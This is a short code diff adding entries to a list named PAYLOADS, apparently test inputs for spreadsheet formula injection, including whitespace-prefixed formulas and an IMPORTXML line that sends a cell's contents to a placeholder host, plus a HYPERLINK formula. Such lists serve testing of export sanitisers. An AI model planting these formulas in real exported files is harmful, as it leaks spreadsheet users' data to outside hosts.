@@ -32,6 +32,13 @@ PAYLOADS = [
     "''=1+1",
     "-",
     "=",
+    "=1+1\r\n",
+    "\t\t=1+1",
+    "\n\n+1",
+    " \t =1+1",
+    "\r\n@SUM(1)",
+    "=IMPORTXML(CONCAT(\"http://x/?v=\",A1),\"//a\")",
+    "+HYPERLINK(A1)",
 ]
 
 
